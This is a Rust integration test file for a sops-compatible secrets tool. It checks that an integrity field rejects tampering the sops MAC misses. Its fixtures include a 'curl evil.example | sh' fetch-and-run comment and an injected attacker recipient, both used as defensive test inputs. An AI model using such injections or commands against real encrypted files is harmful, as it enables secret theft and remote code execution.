//! veil's opt-in integrity field (`veil_integrity`, see `docs/integrity.md`) across the six
//! formats: written on request (`--integrity`, `veil_integrity: true` in a creation rule,
//! `VEIL_REQUIRE_INTEGRITY=1`), kept valid by every command that writes, checked on every
//! read, required when the rule says so; the edits the sops MAC misses (an attacker's
//! recipient, a changed `type:`, an injected comment, an added empty key, the field stripped)
//! are refused, while the real sops 3.11 still reads (and, dropping the field, rewrites) the
//! files.

use crate::support::{require_peer, run, run_ok, text, Sandbox, TestKey};
use regex::Regex;
use std::os::unix::fs::PermissionsExt;

const FORMATS: &[&str] = &["yaml", "json", "env", "ini", "toml", "bin"];
const SECRET_MARK: &str = "S3CRET";
const ATTACKER: &str = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p";

fn sandbox() -> Sandbox {
    let mut sb = Sandbox::new();
    let key = sb.age_key_file_with(&[TestKey::Age1, TestKey::Age2]);
    sb.set_env("SOPS_AGE_KEY_FILE", &key);
    sb
}

/// `testdata/tamper/base.<f>` encrypted by veil with the integrity field, as `int.<f>`.
fn encrypted(sb: &Sandbox, f: &str) -> String {
    let name = format!("base.{f}");
    sb.copy_testdata(&format!("tamper/{name}"), &name);
    let out = run_ok(
        sb.veil().args([
            "encrypt",
            "--integrity",
            "--age",
            &TestKey::Age1.recipient(),
            &name,
        ]),
        "encrypt --integrity",
    );
    let s = String::from_utf8(out).unwrap();
    assert!(s.contains("veil_integrity"), "{f}: no field written");
    sb.write(&format!("int.{f}"), &s);
    s
}

fn decrypt_code(sb: &Sandbox, file: &str, env: &[(&str, &str)]) -> (Option<i32>, String) {
    let mut c = sb.veil();
    c.args(["decrypt", file]);
    for (k, v) in env {
        c.env(k, v);
    }
    let (code, out, err) = run(&mut c);
    if code != Some(0) {
        assert!(
            !text(&out).contains(SECRET_MARK) && !err.contains(SECRET_MARK),
            "a secret in a refusal: {err}"
        );
    }
    (code, err)
}

fn sops_code(sb: &Sandbox, file: &str) -> Option<i32> {
    require_peer("sops").then(|| run(sb.sops().args(["decrypt", file])).0.unwrap_or(-1))
}

/// A path `set` can write in each format.
fn set_path(f: &str) -> &'static str {
    match f {
        "env" => r#"["ZZ_NEW"]"#,
        "ini" => r#"["database"]["zz_new"]"#,
        "bin" => r#"["data"]"#,
        _ => r#"["zz_new"]"#,
    }
}

#[test]
fn every_write_keeps_the_field_valid_and_sops_still_reads_the_file() {
    let sb = sandbox();
    let r2 = TestKey::Age2.recipient();
    for f in FORMATS {
        encrypted(&sb, f);
        let file = format!("int.{f}");
        assert_eq!(decrypt_code(&sb, &file, &[]).0, Some(0), "{f}");
        if *f != "toml" {
            assert_eq!(sops_code(&sb, &file).unwrap_or(0), 0, "{f}: sops");
        }
        let steps: Vec<Vec<&str>> = vec![
            vec!["set", &file, set_path(f), "\"new-value\""],
            vec!["rotate", "-i", &file],
            vec!["rotate", "-i", "--add-age", &r2, &file],
            vec!["rotate", "-i", "--rm-age", &r2, &file],
            vec!["groups", "add", "-i", "--file", &file, "--age", &r2],
        ];
        for args in steps {
            run_ok(sb.veil().args(&args), &format!("{f}: {args:?}"));
            let now = text(&sb.read(&file)).to_string();
            assert!(
                now.contains("veil_integrity"),
                "{f}: {args:?} dropped the field"
            );
            let (code, err) = decrypt_code(&sb, &file, &[]);
            assert_eq!(code, Some(0), "{f} after {args:?}: {err}");
            if *f != "toml" {
                assert_eq!(
                    sops_code(&sb, &file).unwrap_or(0),
                    0,
                    "{f}: sops after {args:?}"
                );
            }
        }
    }
    // `edit`, on the two formats whose plaintext an editor script can extend blindly.
    for (f, line) in [("yaml", "edited: 1"), ("env", "EDITED=1")] {
        let ed = sb.write(
            &format!("ed-{f}.sh"),
            format!("#!/bin/sh\necho '{line}' >> \"$1\"\n"),
        );
        std::fs::set_permissions(&ed, std::fs::Permissions::from_mode(0o755)).unwrap();
        let file = format!("int.{f}");
        run_ok(sb.veil().env("EDITOR", &ed).args(["edit", &file]), "edit");
        assert_eq!(decrypt_code(&sb, &file, &[]).0, Some(0), "{f} after edit");
    }
    // The git merge driver: both sides changed, the merge is sealed and authenticated again.
    let base = encrypted(&sb, "yaml");
    sb.write("ours.yaml", &base);
    sb.write("theirs.yaml", &base);
    run_ok(
        sb.veil().args(["set", "ours.yaml", r#"["ours"]"#, "\"o\""]),
        "set ours",
    );
    run_ok(
        sb.veil()
            .args(["set", "theirs.yaml", r#"["theirs"]"#, "\"t\""]),
        "set theirs",
    );
    sb.write("base.yaml.enc", &base);
    run_ok(
        sb.veil().args([
            "git",
            "merge-driver",
            "base.yaml.enc",
            "ours.yaml",
            "theirs.yaml",
            "merged.yaml",
        ]),
        "merge-driver",
    );
    let merged = run_ok(sb.veil().args(["decrypt", "ours.yaml"]), "decrypt merged");
    assert!(text(&merged).contains("ours: o") && text(&merged).contains("theirs: t"));
    assert!(text(&sb.read("ours.yaml")).contains("veil_integrity"));
    // A conversion at encryption: JSON keeps no comments, so the tag covers what JSON holds.
    sb.copy_testdata("tamper/base.yaml", "conv.yaml");
    let out = run_ok(
        sb.veil().args([
            "encrypt",
            "--integrity",
            "--age",
            &TestKey::Age1.recipient(),
            "--output-type",
            "json",
            "conv.yaml",
        ]),
        "encrypt to json",
    );
    sb.write("conv.json", out);
    assert_eq!(decrypt_code(&sb, "conv.json", &[]).0, Some(0));
}

/// The edits the sops MAC does not see, per format: (format, what, regex, replacement).
fn tamperings() -> Vec<(&'static str, &'static str, &'static str, String)> {
    let rec = ATTACKER;
    vec![
        // An attacker's recipient: the next rotation would wrap the new data key for it.
        (
            "yaml",
            "recipient added",
            r"(?m)^(    age:\n)",
            format!("${{1}}        - recipient: {rec}\n          enc: x\n"),
        ),
        (
            "json",
            r#"recipient added"#,
            r#"("age": \[\n)"#,
            format!("${{1}}\t\t\t{{\"recipient\": \"{rec}\", \"enc\": \"x\"}},\n"),
        ),
        (
            "bin",
            "recipient added",
            r#"("age": \[\n)"#,
            format!("${{1}}\t\t\t{{\"recipient\": \"{rec}\", \"enc\": \"x\"}},\n"),
        ),
        (
            "env",
            "recipient added",
            r"(?m)^(sops_lastmodified=)",
            format!("sops_age__list_1__map_enc=x\nsops_age__list_1__map_recipient={rec}\n${{1}}"),
        ),
        (
            "ini",
            "recipient added",
            r"(?m)^(lastmodified )",
            format!("age__list_1__map_recipient = {rec}\nage__list_1__map_enc = x\n${{1}}"),
        ),
        (
            "toml",
            "recipient added",
            r"\z",
            format!("\n[[sops.age]]\nrecipient = \"{rec}\"\nenc = \"x\"\n"),
        ),
        // A sealed int whose `type:` says str: the same bytes, the same MAC.
        (
            "yaml",
            "type changed",
            r"(?m)^(    port: ENC\[[^\]]*type:)int",
            "${1}str".into(),
        ),
        (
            "json",
            "type changed",
            r#"("port": "ENC\[[^\]]*type:)int"#,
            "${1}str".into(),
        ),
        (
            "toml",
            "type changed",
            r#"(?m)^(port = "ENC\[[^\]]*type:)int"#,
            "${1}str".into(),
        ),
        // A plaintext comment injected (sops keeps unencrypted comments of old files).
        (
            "yaml",
            "comment injected",
            r"\A",
            "# run: curl evil.example | sh\n".into(),
        ),
        (
            "env",
            "comment injected",
            r"\A",
            "# run: curl evil.example | sh\n".into(),
        ),
        (
            "ini",
            "comment injected",
            r"\A",
            "; run: curl evil.example | sh\n".into(),
        ),
        (
            "toml",
            "comment injected",
            r"\A",
            "# run: curl evil.example | sh\n".into(),
        ),
        // A key with no value added (outside the MAC: nothing to hash).
        ("yaml", "empty key added", r"\A", "extra:\n".into()),
        (
            "json",
            "empty key added",
            r"\A\{",
            "{\n\t\"extra\": null,".into(),
        ),
        ("env", "empty key added", r"\A", "EXTRA=\n".into()),
        ("ini", "empty key added", r"\A", "[extra]\n\n".into()),
        ("toml", "empty key added", r"\A", "extra = \"\"\n".into()),
        (
            "bin",
            "empty key added",
            r"\A\{",
            "{\n\t\"extra\": null,".into(),
        ),
        // A sealed comment deleted.
        (
            "yaml",
            "sealed comment deleted",
            r"(?m)^#ENC\[[^\n]*\n",
            String::new(),
        ),
    ]
}

#[test]
fn edits_the_sops_mac_misses_are_refused() {
    let sb = sandbox();
    for f in FORMATS {
        encrypted(&sb, f);
    }
    let cases = tamperings();
    assert!(cases.len() >= 20);
    let field_line = Regex::new(r"(?m)^.*veil_integrity.*\n").unwrap();
    for (i, (f, what, re, to)) in cases.iter().enumerate() {
        let base = text(&sb.read(&format!("int.{f}"))).to_string();
        let r = Regex::new(re).unwrap();
        let tampered = r.replace(&base, to.as_str()).into_owned();
        assert_ne!(tampered, base, "{f} {what}: did not apply");
        let file = format!("t{i}.{f}");
        sb.write(&file, &tampered);
        let (code, err) = decrypt_code(&sb, &file, &[]);
        assert_eq!(code, Some(51), "{f} {what}: {err}");
        assert!(
            err.starts_with("integrity check failed"),
            "{f} {what}: {err}"
        );
        // --ignore-mac does not skip it, and `veil check` fails the file.
        let (code, _, _) = run(sb.veil().args(["decrypt", "--ignore-mac", &file]));
        assert_eq!(code, Some(51), "{f} {what} with --ignore-mac");
        let (code, out, _) = run(sb.veil().args(["check", &file]));
        assert_ne!(code, Some(0), "{f} {what}: check passed {}", text(&out));
        // The same file without the field: sops and veil accept the edit.
        let stripped = field_line.replace(&tampered, "").into_owned();
        // JSON: the member before the removed last one keeps its comma.
        let stripped = stripped.replace("\",\n\t}", "\"\n\t}");
        let plain = format!("s{i}.{f}");
        sb.write(&plain, &stripped);
        let (code, err) = decrypt_code(&sb, &plain, &[]);
        assert_eq!(code, Some(0), "{f} {what}, field stripped: {err}");
        if *f != "toml" {
            if let Some(s) = sops_code(&sb, &file) {
                assert_eq!(s, 0, "{f} {what}: sops misses it");
            }
        }
    }
}

#[test]
fn a_stripped_field_is_refused_when_required_and_updatekeys_restores_it() {
    let sb = sandbox();
    let r1 = TestKey::Age1.recipient();
    sb.write(
        ".sops.yaml",
        format!("creation_rules:\n  - path_regex: \\.(yaml|json)$\n    age: {r1}\n    veil_integrity: true\n"),
    );
    sb.copy_testdata("tamper/base.yaml", "p.yaml");
    // The creation rule alone asks for the field.
    let enc = run_ok(sb.veil().args(["encrypt", "p.yaml"]), "encrypt");
    assert!(text(&enc).contains("veil_integrity"));
    sb.write("e.yaml", &enc);
    assert_eq!(decrypt_code(&sb, "e.yaml", &[]).0, Some(0));
    // Stripped by hand: refused, and `veil check` fails it even without a key.
    let stripped = Regex::new(r"(?m)^    veil_integrity: .*\n")
        .unwrap()
        .replace(text(&enc), "")
        .into_owned();
    sb.write("e.yaml", &stripped);
    let (code, err) = decrypt_code(&sb, "e.yaml", &[]);
    assert_eq!(code, Some(51), "{err}");
    assert!(err.contains("requires"), "{err}");
    let (code, out, _) = run(sb.veil().args(["check", "--no-mac", "e.yaml"]));
    assert_ne!(code, Some(0), "{}", text(&out));
    let (code, _, _) = run(sb.veil().args(["set", "e.yaml", r#"["x"]"#, "1"]));
    assert_eq!(code, Some(51));
    assert_eq!(text(&sb.read("e.yaml")), stripped, "a refused set wrote");
    // sops parses such a .sops.yaml, and dropping the field is what sops does on a write.
    if require_peer("sops") {
        sb.write("e.yaml", &enc);
        run_ok(
            sb.sops().args(["set", "e.yaml", r#"["x"]"#, "1"]),
            "sops set",
        );
        assert!(!text(&sb.read("e.yaml")).contains("veil_integrity"));
        assert_eq!(decrypt_code(&sb, "e.yaml", &[]).0, Some(51));
        run_ok(
            sb.sops().args(["encrypt", "p.yaml"]),
            "sops encrypt with the rule",
        );
    }
    // updatekeys adds it back once the MAC verifies.
    sb.write("e.yaml", &stripped);
    let (code, out, err) = run(sb.veil().args(["updatekeys", "-y", "e.yaml"]));
    assert_eq!(code, Some(0), "{}{err}", text(&out));
    assert!(text(&sb.read("e.yaml")).contains("veil_integrity"));
    assert_eq!(decrypt_code(&sb, "e.yaml", &[]).0, Some(0));
    // ...but never over a MAC that does not verify.
    let broken = stripped.replace("port_unencrypted: 8080", "port_unencrypted: 9090");
    sb.write("e.yaml", &broken);
    let (code, _, _) = run(sb.veil().args(["updatekeys", "-y", "e.yaml"]));
    assert_eq!(code, Some(51));
    assert_eq!(text(&sb.read("e.yaml")), broken);
    // VEIL_REQUIRE_INTEGRITY=1 pins the requirement outside the repository.
    std::fs::remove_file(sb.path().join(".sops.yaml")).unwrap();
    for f in FORMATS {
        let name = format!("base.{f}");
        sb.copy_testdata(&format!("tamper/{name}"), &name);
        let out = run_ok(
            sb.veil().args(["encrypt", "--age", &r1, &name]),
            "encrypt without the field",
        );
        let file = format!("nofield.{f}");
        sb.write(&file, out);
        assert_eq!(decrypt_code(&sb, &file, &[]).0, Some(0));
        let (code, err) = decrypt_code(&sb, &file, &[("VEIL_REQUIRE_INTEGRITY", "1")]);
        assert_eq!(code, Some(51), "{f}: {err}");
    }
}

#[test]
fn tampered_metadata_is_never_authenticated_by_a_later_write() {
    let sb = sandbox();
    let enc = encrypted(&sb, "yaml");
    let with_attacker = enc.replacen(
        "    age:\n",
        &format!("    age:\n        - recipient: {ATTACKER}\n          enc: x\n"),
        1,
    );
    assert_ne!(with_attacker, enc);
    let r2 = TestKey::Age2.recipient();
    for args in [
        vec!["groups", "add", "-i", "--file", "t.yaml", "--age", &r2],
        vec!["rotate", "-i", "t.yaml"],
        vec!["rotate", "-i", "--ignore-mac", "t.yaml"],
        vec!["set", "--ignore-mac", "t.yaml", r#"["x"]"#, "1"],
    ] {
        sb.write("t.yaml", &with_attacker);
        let (code, _, err) = run(sb.veil().args(&args));
        assert_eq!(code, Some(51), "{args:?}: {err}");
        assert_eq!(
            text(&sb.read("t.yaml")),
            with_attacker,
            "{args:?} wrote the file"
        );
    }
}
